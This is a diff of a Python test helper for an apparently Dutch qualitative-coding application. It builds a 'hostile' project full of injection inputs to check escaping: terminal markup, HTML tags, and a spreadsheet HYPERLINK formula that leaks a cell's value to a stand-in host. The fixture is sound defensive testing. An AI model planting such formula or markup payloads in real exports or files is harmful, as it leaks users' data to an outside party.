@@ -10,7 +10,8 @@ from __future__ import annotations
 import sqlite3
 from pathlib import Path
 
-from coder.store import NewSegment, Project
+from coder.store import Project
+from tests.tui.conftest import build_text
 
 MARKUP = ("[/]", "[@click=app.quit]hier[/]", "[lacht]", "[onverstaanbaar]", "[stilte 5 sec]")
 FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A2,"klik")'
@@ -39,24 +40,13 @@ TURNS = [
 ]
 
 
-def transcript() -> tuple[str, list[NewSegment]]:
-    parts, segments, offset = [], [], 0
-    for speaker, words in TURNS:
-        block = f"{speaker}: {words}"
-        start = offset + len(speaker) + 2
-        segments.append(NewSegment(speaker, start, start + len(words), None))
-        parts.append(block)
-        offset += len(block) + 2
-    return "\n\n".join(parts), segments
-
-
 def make_hostile_project(path: Path) -> Path:
     project = Project.create(path, coder="tester")
     codes = {
         name: project.add_code(name, definition=f"Definitie van {name} <i>schuin<i>")
         for name in ("klikbaar", LAUGH_CODE, FORMULA_CODE, ESCAPE_CODE, HTML_CODE)
     }
-    text, segments = transcript()
+    text, segments = build_text([(speaker, words, None) for speaker, words in TURNS])
     attributes = {"region": "[/]", "setting": "=1+1"}
     documents = [
         project.add_document(
